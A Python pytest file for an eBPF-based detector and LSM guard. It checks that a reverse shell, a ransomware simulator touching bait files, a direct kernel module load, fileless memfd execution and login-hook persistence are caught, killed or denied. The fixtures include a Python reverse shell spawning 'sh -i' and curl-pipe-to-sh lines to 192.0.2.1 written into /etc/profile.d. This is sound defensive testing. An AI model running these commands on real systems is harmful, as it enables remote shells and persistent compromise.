"""detect on the VM kernels (6.1 is the oldest supported): its programs load and catch a reverse
shell and a bait file's writer there; with BPF-LSM the guard, given detect's rules file, denies
the change itself while detect kills the process, so a ransomware simulator leaves even the bait
it reached intact."""

from __future__ import annotations

import hashlib
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from ebpfkit.tools import detect
from guardctl import guard
from helpers import alerts_within

pytestmark = pytest.mark.vm(kernel=["6.1"], lsm=True, timeout=1200)

SIMULATOR = Path(__file__).parents[1] / "ransomware.py"
BAIT_NAME = "!0000-budget.xlsx"
BAIT_RULE = "Bait file touched"


def share(top: Path, rules: Path) -> dict[str, str]:
    """Eight real files in two directories with a bait declared in each: {path: sha256}."""
    real = {}
    for sub in ("", "finance"):
        (top / sub).mkdir(parents=True, exist_ok=True)
        for i in range(4):
            path = top / sub / f"report-{i}.txt"
            path.write_bytes(os.urandom(4096))
            real[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    rules.write_text(f'- bait: share\n  paths: ["{top / BAIT_NAME}", "{top / "finance" / BAIT_NAME}"]\n')
    return real


def touched(real: dict[str, str]) -> list[str]:
    changed = []
    for path, digest in real.items():
        try:
            same = hashlib.sha256(Path(path).read_bytes()).hexdigest() == digest
        except FileNotFoundError:
            same = False
        if not same:
            changed.append(path)
    return changed


def simulate(mode: str, top: Path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, str(SIMULATOR), mode, str(top)], capture_output=True, text=True,
                          timeout=120)


def listener() -> tuple[socket.socket, int]:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(4)

    def serve():
        with server:
            conn, _ = server.accept()
            conn.sendall(b"exit\n")
            time.sleep(0.5)
            conn.close()

    threading.Thread(target=serve, daemon=True).start()
    return server, server.getsockname()[1]


@pytest.mark.vm(kernel=["6.1", "6.12"], lsm=True, timeout=1200)  # kprobe and LSM hooks on both kernels
def test_a_reverse_shell_and_a_bait_writer_on_this_kernel(tmp_path):
    """On the guest's /tmp, an overlay: the (device, inode) of an open file is the overlay's."""
    top, rules = tmp_path / "share", tmp_path / "baits.yaml"
    real = share(top, rules)
    _, port = listener()
    shell = (f"import socket, subprocess; s = socket.create_connection(('127.0.0.1', {port})); "
             "subprocess.run(['sh', '-i'], stdin=s, stdout=s, stderr=s)")
    with detect.open(rules=(str(rules),)) as session:
        assert "watched files" in session.hook
        child = subprocess.run([sys.executable, "-c", shell], capture_output=True, timeout=60)
        run = simulate("in-place", top)
        alerts = alerts_within(session, 1.5)
    assert child.returncode == 0
    shells = [a for a in alerts if a.rule == "Reverse shell"]
    assert len(shells) == 1 and "T1059" in " ".join(shells[0].techniques), alerts
    assert run.returncode == -signal.SIGKILL, run.stdout + run.stderr
    baits = [a for a in alerts if a.rule == BAIT_RULE]
    assert [(a.event["evt.type"], a.event["evt.killed"], a.event["fd.name"]) for a in baits] == [
        ("openat", "true", str(top / BAIT_NAME))]
    assert touched(real) == []


@pytest.mark.parametrize("mode", ["in-place", "rename-first"])
def test_the_guard_denies_what_detect_kills_for(tmp_path, tmpfs, mode):
    top, rules = tmpfs / "share", tmp_path / "baits.yaml"
    real = share(top, rules)
    with detect.open(rules=(str(rules),)) as session:
        bait = top / BAIT_NAME
        content = bait.read_bytes()
        with guard(tmp_path, f"baits: [{rules}]\n") as g:  # after detect planted them
            run = simulate(mode, top)
            alerts = [a for a in alerts_within(session, 1.5) if a.rule == BAIT_RULE]
            denials = g.lines(where=lambda line: "hook" in line)
        assert bait.read_bytes() == content, "the bait is intact: its change was denied"
    assert run.returncode == -signal.SIGKILL, run.stdout + run.stderr
    assert touched(real) == []
    assert [(a.event["evt.killed"], a.event["fd.name"]) for a in alerts] == [("true", str(bait))], alerts
    if mode == "in-place":  # denied at the open: seen at its exit, with the error
        assert (alerts[0].event["evt.type"], alerts[0].event["evt.res"]) == ("openat", "EPERM")
    else:  # seen at the rename's entry, which the LSM then denies
        assert alerts[0].event["evt.type"].startswith("rename")
    hook = {"in-place": "file_open", "rename-first": "inode_rename"}[mode]
    assert [(d["verdict"], d["hook"], d["pid"]) for d in denials] == [("denied", hook, alerts[0].pid)], denials
    assert not bait.exists(), "detect removed the bait it planted once the guard let it"


def test_a_module_load_a_fileless_exec_and_a_profile_hook_there(tmp_path):
    """The VM kernels have modules (the host has none: no init_module tracepoints there); the
    guest's /etc takes writes (they stay in the guest): a login hook planted in /etc/profile.d,
    written there and written elsewhere and renamed in (the built-in rule switched on)."""
    hook = Path("/etc/profile.d/ebpfkit-test.sh")
    staged, moved = Path("/etc/ebpfkit-staged.sh"), Path("/etc/profile.d/ebpfkit-moved.sh")
    staged.write_text("curl -s http://192.0.2.1/y | sh\n")
    on = tmp_path / "on.yaml"
    on.write_text("- rule: File written where programs persist\n  enabled: true\n")
    with detect.open(rules=(str(on),)) as session:
        assert session.missing == []
        hook.write_text("curl -s http://192.0.2.1/x | sh\n")
        os.rename(staged, moved)  # written elsewhere, renamed in
        load = subprocess.run([sys.executable, "-c", "import ctypes; "
                               "print(ctypes.CDLL(None, use_errno=True).syscall(313, -1, b'', 0))"],  # finit_module
                              capture_output=True, text=True, timeout=60)
        fileless = subprocess.run([sys.executable, "-c", "import os\nfd = os.memfd_create('payload')\n"
                                   "os.write(fd, open('/bin/true', 'rb').read())\n"
                                   "os.execv(f'/proc/self/fd/{fd}', ['payload'])"], timeout=60)
        alerts = alerts_within(session, 1.5)
    hook.unlink()
    moved.unlink()
    assert load.stdout.strip() == "-1" and fileless.returncode == 0
    wanted = ("Kernel module loaded directly", "Fileless execution", "File written where programs persist")
    rules = sorted(a.rule for a in alerts if a.rule in wanted)
    assert rules == ["File written where programs persist", "File written where programs persist",
                     "Fileless execution", "Kernel module loaded directly"], alerts
    planted = [a for a in alerts if a.rule == "File written where programs persist"]
    assert [(a.event["fd.name"], a.event["evt.type"].startswith("rename"), a.pid) for a in planted] == [
        (str(hook), False, os.getpid()), (str(moved), True, os.getpid())]
